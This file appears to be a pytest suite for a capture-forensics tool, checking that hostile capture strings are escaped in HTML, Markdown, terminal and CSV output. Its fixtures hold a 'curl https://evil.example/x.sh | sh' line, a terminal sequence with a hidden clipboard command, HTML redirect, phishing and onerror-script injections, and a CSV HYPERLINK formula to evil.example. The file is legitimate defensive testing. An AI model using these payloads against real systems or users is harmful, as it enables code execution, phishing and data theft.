"""Hostile input, round 2 (issue 27): each crafted case of the issue, one test each.

A capture's strings stay text wherever they go (HTML, Markdown, terminal, CSV); redaction never
leaves a private string nor fails open; a capture's integers size nothing past what a real
engine has; stray journals, ``.`` and non-UTF-8 names, full disks and bad probe frames end in
one line or a warning, never a traceback, a truncated file or a lost capture.
"""

from __future__ import annotations

import csv
import json
import os
import re
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pytest

from forensics.cli import main
from forensics.errors import UnknownVariantError
from forensics.records import Record
from forensics.store.writer import write_capture

BAD = 248320
#: control sequences: clear screen, cursor up + erase line, OSC 52 (clipboard), a title change
CONTROL = "\x1b[2J\x1b[1A\x1b[2K\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b]0;pwned\x07\r\x08"
FAKE_TABLE = ("\n\n| site | upstream | patched |\n|---|---|---|\n| embedding | ok | ok |\n\n"
              "### Reproduce\n\n```sh\ncurl https://evil.example/x.sh | sh\n```\n")
COMMENT = "<!-- hide the real table"
#: what a hostile HTML key or value tries: hide the conclusion, a fake heading, a redirect, a
#: link, a script through an image
HTML_ATTACKS = (
    "<style>#conclusion{display:none}</style>",
    "<h2 id=fake style='color:green'>patched resolves every violation</h2>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<a id=phish href='https://evil.example/'>log in</a>",
    "<img id=pwn src=x onerror='window.__pwned=1'>",
)
CONTROL_BYTE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")


def records(req_ids: list[str], steps: int = 3, rows: int = BAD) -> list[Record]:
    """Embedding records with two requests; step 1 holds an id past the embedding rows."""
    out = []
    for step in range(steps):
        ids = np.array([5, 6, BAD if step == 1 else 7, 8], dtype=np.int64)
        out.append(Record("embedding", step, 0, {
            "input_ids": ids, "num_embeddings": rows, "req_ids": list(req_ids),
            "cu_num_tokens": np.array([2, 4], dtype=np.int32)}))
    return out


def hostile_capture(path: Path, text: str, *, events: list[dict[str, Any]] | None = None
                    ) -> Path:
    """A capture whose notes, model name, request ids and events hold ``text``."""
    manifest = {"notes": text, "model": {"name": text, "hardware": text}}
    events = events if events is not None else [
        {"kind": "cuda_assert", "step": 1, "rank": 0, "message": text, "detail": text}]
    return write_capture(path, records([text + "a", "r" + text]), manifest=manifest,
                         events=events)


def run_cli(capsys: pytest.CaptureFixture[str], *argv: object) -> tuple[int, str, str]:
    """``forensics ARGV`` in this process: (exit code, stdout, stderr)."""
    code = main([str(a) for a in argv])
    out = capsys.readouterr()
    return code, out.out, out.err


def check_said(capsys: pytest.CaptureFixture[str], argv: tuple[object, ...], says: str,
               absent: tuple[str, ...], fold: bool = True) -> str:
    """``forensics ARGV``'s stdout (exit 0, checked), its white space folded unless ``fold``
    is false, checked to hold ``says`` and none of ``absent``."""
    code, out, err = run_cli(capsys, *argv)
    assert code == 0, err
    text = " ".join(out.split()) if fold else out
    for phrase in absent:
        assert phrase not in text, text
    assert says in text, text
    return text


# ---------------------------------------------------------------- 1. HTML report injection


@pytest.fixture(scope="module")
def injected_report(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report of a capture whose event keys (the events table's column names) and values
    are markup."""
    from forensics.present.report import write_report

    root = tmp_path_factory.mktemp("html")
    event = {"kind": "cuda_assert", "step": 1, "rank": 0, "message": HTML_ATTACKS[4]}
    event.update({attack: attack for attack in HTML_ATTACKS})
    capture = write_capture(root / "h.capture", records(["r0", HTML_ATTACKS[3]]),
                            manifest={"notes": HTML_ATTACKS[0]}, events=[event])
    return write_report(capture, root / "h.html")


def test_html_keys_are_escaped_and_the_csp_allows_only_our_styles(injected_report: Path
                                                                   ) -> None:
    html = injected_report.read_text(encoding="utf-8")
    body = html.partition("<body")[2]
    for attack in HTML_ATTACKS:
        assert attack not in html, attack
    assert not re.search(r"<\s*(meta|a|img|h2)\b[^>]*(http-equiv|href=.?https?:|onerror|id=fake)",
                         body)
    metas = re.findall(r"<meta[^>]*>", html)
    policy = [m for m in metas if 'http-equiv="Content-Security-Policy"' in m]
    assert len(policy) == 1 and len([m for m in metas if "http-equiv" in m]) == 1, metas
    style = re.search(r"style-src ([^;\"]*)", policy[0])
    assert style is not None and "unsafe-inline" not in style.group(1)
    assert all(s.startswith("'sha256-") for s in style.group(1).split()), style.group(1)


def test_html_injection_in_chromium_shows_the_conclusion_and_no_foreign_element(
        injected_report: Path, tmp_path: Path) -> None:
    driver = _chromium(tmp_path)
    try:
        from selenium.webdriver.common.by import By

        driver.get(injected_report.resolve().as_uri())
        conclusion = driver.find_element(By.ID, "conclusion")
        assert conclusion.is_displayed() and "upstream leaves embedding in violation" in \
            conclusion.text
        foreign = driver.execute_script(
            "return document.querySelectorAll('#fake, #phish, #pwn, "
            "meta[http-equiv=refresh], a[href^=http], img[onerror]').length")
        assert foreign == 0
        assert driver.execute_script("return window.__pwned === undefined")
        assert driver.current_url.startswith("file:")
        assert HTML_ATTACKS[1] in driver.find_element(By.TAG_NAME, "body").text
    finally:
        driver.quit()


def _chromium(tmp_path: Path) -> Any:
    """Headless Chromium (Debian's chromium and chromium-driver, as .ci/run installs)."""
    import shutil

    if not shutil.which("chromium") or not shutil.which("chromedriver"):
        pytest.fail("headless Chromium is not installed: apt-get install -y chromium "
                    "chromium-driver")
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = shutil.which("chromium") or ""
    for arg in ("--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
                "--no-first-run", "--disable-background-networking",
                f"--user-data-dir={tmp_path / 'profile'}"):
        options.add_argument(arg)
    return webdriver.Chrome(options=options,
                            service=Service(executable_path=shutil.which("chromedriver")))


# ---------------------------------------------------------------- 2. Markdown injection


@pytest.mark.parametrize("text", [FAKE_TABLE, COMMENT, CONTROL + FAKE_TABLE])
def test_markdown_summary_keeps_one_table_one_code_block_and_no_raw_html(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str) -> None:
    import mistune

    path = hostile_capture(tmp_path / "m.capture", text)
    code, out, _ = run_cli(capsys, "summary", path)
    assert code == 0
    # as GitHub renders it: tables, and raw HTML passed through
    rendered = str(mistune.create_markdown(escape=False, plugins=["table", "strikethrough",
                                                                  "url"])(out))
    # our two code blocks: the replay commands and the standalone reproducer's
    assert rendered.count("<table>") == 1 and rendered.count("<pre>") == 2
    blocks = [part.split("</pre>")[0] for part in rendered.split("<pre>")[1:]]
    assert "<!--" not in rendered and not any("curl" in block for block in blocks)
    assert "evil" not in rendered.split("<table>")[1].split("</table>")[0]
    assert len([line for line in out.splitlines() if line.startswith("|")]) == 3
    assert not CONTROL_BYTE.search(out)
    assert "(request '" in out  # request ids quoted


# ---------------------------------------------------------------- 3. terminal escapes


@pytest.mark.parametrize("argv", [["inspect"], ["replay"], ["summary", "--format", "text"],
                                  ["summary"], ["findings"]])
def test_terminal_output_holds_no_control_character(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str]) -> None:
    path = hostile_capture(tmp_path / f"d{CONTROL}.capture", CONTROL)
    code, out, err = run_cli(capsys, argv[0], path, *argv[1:])
    assert code == 0, err
    assert not CONTROL_BYTE.search(out), repr(out[:300])
    assert "\\x1b[2J" in out  # shown, escaped


# ---------------------------------------------------------------- 4. CSV formulas


def test_csv_cells_never_start_a_formula(tmp_path: Path,
                                         capsys: pytest.CaptureFixture[str]) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    path = write_capture(tmp_path / "f.capture", records([formula, "+1+2", ]))
    code, _, err = run_cli(capsys, "findings", path, "-o", tmp_path / "f.csv")
    assert code == 0, err
    rows = list(csv.DictReader((tmp_path / "f.csv").open(encoding="utf-8")))
    assert rows and {r["req_id"] for r in rows} <= {"'" + formula, "'+1+2"}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in
                       row.values() if not re.fullmatch(r"-?\d+", cell))


# ---------------------------------------------------------------- 5/6. redaction

SECRETS = ("SECRET-host.corp", "SECRETHW", "SECRETCREATOR", "SECRETSCENARIO", "SECRETKEY",
           "SECRETMETHOD", "SECRETTAG", "SECRETTENSOR", "SECRETKIND", "SECRETEXTRA")


def _secret_capture(path: Path) -> Path:
    manifest = {"per_host": {SECRETS[0]: 3}, "model": {"hardware": SECRETS[1],
                                                        "speculative": SECRETS[5],
                                                        "vocab_size": 32000},
                "creator": SECRETS[2], "simulation": {"scenario": SECRETS[3]},
                "sites": [SECRETS[8]], "variants": [SECRETS[8]],
                "versions": {"vllm": f"0.33.0+{SECRETS[6]}"}}
    events = [{"kind": SECRETS[8], "step": 1, "rank": 0,
               "nested": {"deeper": {SECRETS[4]: 1}}, SECRETS[4]: "x"}]
    recs = [Record("embedding", s, 0, {"input_ids": np.array([5, 12345, 7], dtype=np.int64),
                                       "num_embeddings": 32000}) for s in range(3)]
    recs.append(Record("embedding", 3, 0, {"min": 3, "max": 40000, "num_embeddings": 32000,
                                           "tensor": SECRETS[7], "prompt_token": 12345,
                                           SECRETS[9]: 12345}, summary=True))
    return write_capture(path, recs, manifest=manifest, events=events)


def test_redaction_leaves_no_private_string_in_any_file(tmp_path: Path) -> None:
    import forensics
    from forensics.share.redaction import redact

    out = redact(_secret_capture(tmp_path / "s.capture"), tmp_path / "r.capture").path
    for file in out.rglob("*"):
        if file.is_file():
            data = file.read_bytes()
            assert not [s for s in SECRETS if s.encode() in data], file.name
    summary = [r for r in forensics.load(out) if r.summary][0]
    extras = {k: v for k, v in summary.fields.items() if k not in ("min", "max",
                                                                   "num_embeddings")}
    # an integer extra of no declared field may be a token id: it goes, and the manifest says
    # so under no name of the capture's (T74c; it was kept and permuted as a token id)
    assert extras == {}, summary
    assert "records.embedding.*" in forensics.load(out).manifest["redaction"]["dropped"]


@pytest.mark.parametrize("rows", [0, 1, 31000])
def test_redaction_refuses_a_domain_it_cannot_permute(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], rows: int) -> None:
    recs = records(["a", "b"], rows=32000)
    recs.append(Record("embedding", 9, 0, {"input_ids": np.array([0], dtype=np.int64),
                                           "num_embeddings": rows}))
    path = write_capture(tmp_path / "z.capture", recs)
    code, _, err = run_cli(capsys, "redact", path, "-o", tmp_path / "out.capture")
    assert code == 2 and err.count("\n") == 1 and "num_embeddings" in err, err
    assert not (tmp_path / "out.capture").exists()


# ---------------------------------------------------------------- 7. one integer, the memory


def test_a_bound_past_the_cap_is_refused_before_the_replay(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = write_capture(tmp_path / "b.capture", records(["a", "b"], rows=2**29),
                         validated=True)
    code, _, err = run_cli(capsys, "replay", path)
    assert code == 2 and "'num_embeddings' is 536870912, past 16777216" in err, err


def test_the_vllm_embedding_adapter_allocates_nothing_by_the_row_count() -> None:
    from forensics.variants.vllm_adapters import run_embedding_forward

    seen: dict[str, Any] = {}
    code = SimpleNamespace(embedding_method=lambda: None,
                           embedding_forward=lambda layer, ids: seen.update(layer=layer))
    run_embedding_forward(code, records(["a", "b"], rows=2**24)[0])  # type: ignore[arg-type]
    weight = seen["layer"].weight
    assert weight.shape == (2**24, 1) and weight.untyped_storage().nbytes() == 4


def test_the_vllm_async_output_adapter_builds_nothing_by_output_len() -> None:
    from forensics.variants.vllm_adapters import run_update_async_output

    lengths: list[int] = []
    code = SimpleNamespace(update_async_output=lambda batch: lengths.extend(
        len(row) for row in batch.sampling_metadata.output_token_ids))
    record = Record("async_output", 1, 0, {
        "req_ids": ["a"], "prev_req_ids": ["a"], "vocab_size": 100,
        "sampled_token_ids_cpu": np.array([[3, 4]], dtype=np.int32),
        "output_tail": [[9, -1, -1]], "output_len": np.array([2**23], dtype=np.int64)})
    out = run_update_async_output(code, record)  # type: ignore[arg-type]
    assert lengths == [4] and out["output_len"].tolist() == [2**23]
    assert out["output_tail"] == [[9, -1, -1]]


def test_check_runs_the_real_code_only_when_trusted(tmp_path: Path) -> None:
    from forensics.share.expectations import check, choose_variants

    path = write_capture(tmp_path / "e.capture", records(["a", "b"]))
    (path / "expected.json").write_text(json.dumps(
        {"format": 1, "verdicts": {"upstream": {}, "vllm": {}}, "first_finding": {}}))
    with pytest.raises(UnknownVariantError, match="'vllm', which runs real code"):
        check(path)
    assert choose_variants({"verdicts": {"vllm": {}}}, path, None, trust_expected=True) == \
        ["vllm"]


# ---------------------------------------------------------------- 8. a stray journal


@pytest.mark.parametrize("argv", [["inspect", "{c}"],
                                  ["simulate", "clean", "-o", "{c}", "--steps", "2",
                                   "--force"]])
def test_a_journal_that_does_not_parse_is_ignored_with_a_warning(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str]) -> None:
    path = write_capture(tmp_path / "c.capture", records(["a", "b"]))
    (tmp_path / ".c.capture.replacing").write_text("[" * 60_000)
    code, out, err = run_cli(capsys, *[a.format(c=path) for a in argv])
    assert code == 0, err
    assert err.count("\n") == 1 and err.startswith("forensics: warning: ignored the "
                                                   "replacement journal"), err


# ---------------------------------------------------------------- 9. '.' as a path


def test_dot_is_resolved_and_root_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    path = write_capture(tmp_path / "c.capture", records(["a", "b"]))
    monkeypatch.chdir(path)
    code, out, err = run_cli(capsys, "inspect", ".")
    assert code == 0 and "capture c: 3 records" in out, err
    for argv in (["simulate", "clean", "-o", "/", "--steps", "2"],
                 ["simulate", "clean", "-o", ".", "--steps", "2"],
                 ["import", "x.npz", "-o", "."]):
        code, out, err = run_cli(capsys, *argv)
        assert code == 2 and err.count("\n") == 1 and "internal error" not in err, (argv, err)


# ---------------------------------------------------------------- 10. partial exports

LIMITED = """
import resource, sys
resource.setrlimit(resource.RLIMIT_FSIZE, (2000, 2000))
from forensics.cli import main
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_an_export_past_the_file_size_limit_leaves_the_old_file(tmp_path: Path,
                                                                suffix: str) -> None:
    recs = [Record("embedding", s, 0, {"input_ids": np.full(40, BAD, dtype=np.int64),
                                       "num_embeddings": 100}) for s in range(10)]
    path = write_capture(tmp_path / "p.capture", recs)
    target = tmp_path / f"f{suffix}"
    target.write_text("old findings\n")
    run = subprocess.run([sys.executable, "-c", LIMITED, "findings", str(path), "-o",
                          str(target)], capture_output=True, text=True, timeout=300)
    assert run.returncode == 2, run.stderr
    assert run.stderr.count("\n") == 1 and f"'{target}'" in run.stderr, run.stderr
    assert target.read_text() == "old findings\n"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".f")] == []


# ---------------------------------------------------------------- 11. the probe's writer


def _frames(items: list[bytes]) -> memoryview:
    ring = bytearray(1 << 16)
    at = 0
    for item in items:
        ring[at:at + len(item)] = item
        at += len(item)
    return memoryview(ring)


def _block_of_unknown_site() -> list[bytes]:
    from forensics.probe import frames

    layout = frames.blob(frames.LAYOUT, {"number": 7, "site": "nosuch",
                                         "parts": [[["input_ids"], ["<i4"], [1], 4]]})
    ints = np.array([2, 0, 2], dtype=np.int64).tobytes()  # step, rank, length
    data = np.array([1, 2], dtype=np.int32).tobytes()
    size = frames.BLOCK_HEAD.size + len(ints) + frames.padded(len(data))
    block = frames.BLOCK_HEAD.pack(size, frames.BLOCK, 7, 1) + ints + data
    return [layout, block + bytes(size - len(block))]


def test_the_writer_process_survives_any_frame(tmp_path: Path) -> None:
    import forensics
    from forensics.probe import frames
    from forensics.probe.copy import PendingRecord
    from forensics.probe.writer_process import WriterChild
    from forensics.store.writer import CaptureWriter

    def record(step: int, rank: int) -> bytes:
        return frames.record_blob(PendingRecord("embedding", step, rank, {
            "input_ids": np.array([1, 2], dtype=np.int32), "num_embeddings": 10}))

    deep = json.dumps({"kind": "x", "v": 1}).encode()[:-1] + b', "d": ' + b"[" * 100_000 \
        + b"]" * 100_000 + b"}"
    nested = frames.BLOB_HEAD.pack(frames.BLOB_HEAD.size + frames.padded(len(deep)),
                                   frames.EVENT, len(deep)) + deep + bytes(
        frames.padded(len(deep)) - len(deep))
    items = [frames.blob(frames.EVENT, {"kind": "early", "step": 0, "rank": 0}),
             *_block_of_unknown_site(), nested,
             frames.blob(frames.EVENT, {"kind": {"a": 1}, "step": 1}),
             record(2**80, 0), record(1, -5), record(3, 0)]
    ring = _frames(items)
    writer = CaptureWriter(tmp_path / "w.capture", {}, process="w1")
    read_fd, ack_fd = os.pipe()
    child = WriterChild(ring, writer, ack_fd, 1, {})
    child.write_upto(sum(map(len, items)))
    writer.close()
    cap = forensics.load(tmp_path / "w.capture")
    assert [(r.step, r.rank) for r in cap] == [(3, 0)]
    kinds = [e["kind"] for e in cap.events]
    assert "early" in kinds and kinds.count("probe_error") == 5, cap.events
    wheres = [e["where"] for e in cap.events if e["kind"] == "probe_error"]
    for number in (3, 4, 5, 6, 7):  # the block, the nested JSON, the dict kind, step, rank
        assert [w for w in wheres if re.search(f"frame {number}\\b", w)], (number, wheres)
    assert not [p.name for p in (tmp_path / "w.capture").glob("*.r*.arrows")
                if p.stat().st_size == 0]
    os.close(read_fd)
    os.close(ack_fd)


# ---------------------------------------------------------------- 12. non-UTF-8 names


def test_a_capture_under_a_non_utf8_folder_opens(tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    folder = Path(os.fsdecode(bytes(tmp_path) + b"/\xff\xfe"))
    folder.mkdir()
    path = write_capture(folder / "c.capture", records(["a", "b"]))
    for argv in (["inspect", path], ["replay", path], ["summary", path]):
        code, out, err = run_cli(capsys, *argv)
        assert code == 0, err
        # shown escaped: \udcff as text, \377 in a command line (the byte the shell's printf
        # writes, T43a)
        assert "\\udcff" in out or "\\377" in out or "capture c" in out
